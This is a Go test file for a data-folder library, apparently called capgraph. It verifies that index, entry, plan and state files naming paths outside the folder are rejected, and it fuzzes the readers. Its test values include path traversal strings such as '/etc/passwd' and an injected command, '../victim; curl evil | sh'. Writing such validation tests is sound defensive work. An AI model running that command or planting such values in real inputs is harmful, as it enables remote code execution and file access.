package folder_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"capgraph/folder"
	"capgraph/store"
)

// write writes files of a folder, by their names.
func write(t testing.TB, dir string, files map[string]string) folder.Folder {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	return folder.Folder{Store: store.Local{}, Dir: dir}
}

// bad are names that no shard has.
var bad = []string{"", ".", "..", "../victim", "a/b", "/etc/passwd", `a\b`, "a.b", "a\nb", "a\x1b[2J", "a\u009bb", "\xff"}

func TestIsShardName(t *testing.T) {
	for _, name := range []string{"train-00000-of-00010", "00000", "größe 1", "a;b", "-", "$(x)"} {
		if !folder.IsShardName(name) {
			t.Errorf("%q is no name of a shard", name)
		}
	}
	for _, name := range bad {
		if folder.IsShardName(name) {
			t.Errorf("%q is the name of a shard", name)
		}
	}
}

// Names that lead elsewhere are refused if they are read, with the file that has them.
func TestNamesThatLeadElsewhere(t *testing.T) {
	index := `{"plan":"0","files":[{"name":"a.tsv"}],"shards":[{"name":"a","file":0}]}`
	f := write(t, t.TempDir(), map[string]string{
		".capgraph/index.json":           strings.Replace(index, `"name":"a",`, `"name":"../../victim",`, 1),
		".capgraph/entries/parse/a.json": `{"pass":"parse","shard":"a","files":[{"name":"../victim; curl evil | sh"}]}`,
		".capgraph/entries/texts/a.json": `{"pass":"texts","shard":"a","files":[{"name":"graphs/a.parquet"}]}`,
		".capgraph/entries/count/a.json": `{"pass":"count","shard":"a","files":[{"name":".capgraph/runs/count/../../index.parquet"}]}`,
		".capgraph/plans/count.json":     `{"pass":"count","settings":{},"input":"0 without ../victim"}`,
		".capgraph/failed/parse/a.json":  `{"pass":"parse","shard":"../victim"}`,
	})
	_, atIndex := f.ReadIndex()
	_, atParse := f.ReadEntry(folder.PassParse, "a")
	_, atTexts := f.ReadEntry(folder.PassTexts, "a")
	_, atCount := f.ReadEntry(folder.PassCount, "a")
	_, atPlan := f.ReadPlan(folder.PassCount)
	state, err := f.ReadState(&folder.Index{Files: []folder.SourceFile{{}}, Shards: []folder.Shard{{Name: "a"}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(f.Path(".capgraph/entries/parse/a.json")); err != nil {
		t.Fatal(err)
	}
	if state, err = state.Refresh(folder.PassParse); err != nil {
		t.Fatal(err)
	}
	_, atFailure := state.Failures(folder.PassParse)
	for want, err := range map[string]error{
		`index.json is damaged: no shard can have the name "../../victim" (run again with --redo index)`:                                          atIndex,
		`entries/parse/a.json is damaged: it names "../victim; curl evil | sh", which is no file of its pass and shard (remove it and run again)`: atParse,
		`entries/texts/a.json is damaged: it names "graphs/a.parquet"`:                                                                            atTexts,
		`entries/count/a.json is damaged: it names ".capgraph/runs/count/../../index.parquet"`:                                                    atCount,
		`plans/count.json is damaged: no shard can have the name "../victim"`:                                                                     atPlan,
		`failed/parse/a.json is damaged: it is of pass "parse" and shard "../victim"`:                                                             atFailure,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %s", err, want)
		}
	}
}

// A compacted state that names shards that are not finished is made anew.
func TestCompactOfOtherShards(t *testing.T) {
	x := &folder.Index{Plan: "0", Files: []folder.SourceFile{{}}}
	files := map[string]string{}
	for i := range folder.CompactFrom {
		name := "s" + strings.Repeat("x", i)
		x.Shards = append(x.Shards, folder.Shard{Name: name})
		e := folder.Entry{Pass: folder.PassTally, Shard: name, Plan: "1", RowsIn: 1}
		if err := e.Seal(); err != nil {
			t.Fatal(err)
		}
		data, err := json.Marshal(&e)
		if err != nil {
			t.Fatal(err)
		}
		files[folder.EntryFile(folder.PassTally, name)] = string(data)
	}
	files[folder.PlanFile(folder.PassTally)] = `{"pass":"tally","settings":{}}`
	f := write(t, t.TempDir(), files)
	keep := func() *folder.State {
		state, err := f.ReadState(x)
		if err != nil {
			t.Fatal(err)
		}
		if err := state.WriteCompacted(folder.PassTally); err != nil {
			t.Fatal(err)
		}
		return state
	}
	keep()
	kept := f.Path(".capgraph/compact/tally/state.json")
	content, err := os.ReadFile(kept)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kept, []byte(strings.Replace(string(content), `"1": "s"`, `"1": "../../../../victim"`, 1)), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := keep().CheckPlan(folder.PassTally); err == nil || strings.Contains(err.Error(), "victim") || !strings.Contains(err.Error(), "shard s of pass tally") {
		t.Error(err)
	}
}

// Whatever a folder's bookkeeping holds, what is read of it names nothing outside the folder.
func FuzzIndex(f *testing.F) {
	f.Add([]byte(`{"format":"2","plan":"0","files":[{"name":"a.tsv","size":1,"rows":1}],"shards":[{"name":"a","file":0,"rows":1}]}`), []byte(`{"plan":"1","files":[],"shards":[]}`))
	f.Add([]byte(`{"plan":"0","shards":[{"name":"../a","file":-1}],"keep":["text"]}`), []byte("null"))
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, first, joined []byte) {
		in := write(t, dir, map[string]string{folder.IndexFile: string(first), ".capgraph/index-00001.json": string(joined)})
		x, err := in.ReadIndex()
		if err != nil {
			return
		}
		for _, s := range x.Shards {
			x.IsBroken(s)
			for _, pass := range folder.ShardPasses() {
				checkInside(t, in, folder.DataFile(pass, s.Name), folder.EntryFile(pass, s.Name))
			}
		}
		x.EmptyFiles()
		x.PlanInput()
		if _, err := in.ReadState(x); err != nil {
			t.Error(err)
		}
	})
}

func FuzzEntry(f *testing.F) {
	for _, pass := range []folder.Pass{folder.PassParse, folder.PassTally, folder.PassCount, folder.PassTexts} {
		f.Add(string(pass), []byte(`{"pass":"`+string(pass)+`","shard":"a","rejects":{"empty":1},"files":[{"name":"graphs/a.parquet"},{"name":".capgraph/runs/count/b.parquet"}]}`))
	}
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, pass string, entry []byte) {
		if !folder.IsShardName(pass) {
			return
		}
		in := write(t, dir, map[string]string{folder.EntryFile(folder.Pass(pass), "a"): string(entry), ".capgraph/failed/parse/a.json": string(entry)})
		e, err := in.ReadEntry(folder.Pass(pass), "a")
		if err != nil {
			return
		}
		for _, file := range e.Files {
			checkInside(t, in, file.Name)
		}
		in.RebuildHint(folder.Pass(pass), "a", e)
		account := folder.Account{Rejects: map[string]int64{}, Stats: map[string]int64{}}
		account.Add(e)
		account.AllRejected()
	})
}

func FuzzPlan(f *testing.F) {
	f.Add([]byte(`{"pass":"count","format":"2","version":"count/1","input":"0 and 1 without a without b","settings":{"dedupe":{"key":"image"}}}`))
	f.Add([]byte(`{"pass":"count","settings":null}`))
	dir := f.TempDir()
	other, err := folder.NewPlan(folder.PassCount, "count/2", "0", map[string]any{"seed": 1})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, plan []byte) {
		in := write(t, dir, map[string]string{folder.PlanFile(folder.PassCount): string(plan)})
		p, err := in.ReadPlan(folder.PassCount)
		if err != nil {
			return
		}
		p.Hash()
		folder.ListChanges(p, other)
		folder.IsCompatible(p, other, true)
		for _, shard := range strings.Split(p.Input, folder.MissingShardMarker)[1:] {
			if !folder.IsShardName(shard) {
				t.Errorf("the input is without %q", shard)
			}
		}
	})
}

// checkInside checks that files of those names lie in the folder.
func checkInside(t *testing.T, in folder.Folder, names ...string) {
	t.Helper()
	for _, name := range names {
		if rel, err := filepath.Rel(in.Dir, in.Path(name)); err != nil || !filepath.IsLocal(rel) || strings.ContainsFunc(name, func(r rune) bool { return r < ' ' }) {
			t.Errorf("%q leads to %q", name, in.Path(name))
		}
	}
}

// The sum of an entry is what docs/format.md says: other programs can check it.
func TestSumOfAnEntry(t *testing.T) {
	e := folder.Entry{Pass: folder.PassTexts, Shard: "00000", Plan: "1", RowsIn: 3, Stats: map[string]int64{"b": 2, "a": 1}}
	text, err := json.Marshal(&e) // without a sum
	if err != nil || bytes.Contains(text, []byte("sum")) {
		t.Fatalf("%s: %v", text, err)
	}
	hash := sha256.Sum256(text)
	if err := e.Seal(); err != nil || e.Sum != hex.EncodeToString(hash[:8]) {
		t.Errorf("sum %q of %s: %v", e.Sum, text, err)
	}
	sum := e.Sum
	if err := e.Seal(); err != nil || e.Sum != sum {
		t.Errorf("sealed twice: %q, %q, %v", sum, e.Sum, err)
	}
	for _, wrong := range []string{"", "0000000000000000", sum[1:] + sum[:1]} {
		e.Sum = wrong
		data, err := json.Marshal(&e)
		if err != nil {
			t.Fatal(err)
		}
		f := write(t, t.TempDir(), map[string]string{folder.EntryFile(e.Pass, e.Shard): string(data)})
		if _, err := f.ReadEntry(e.Pass, e.Shard); err == nil || !strings.Contains(err.Error(), "is damaged: its sum is") {
			t.Errorf("sum %q: %v", wrong, err)
		}
	}
}
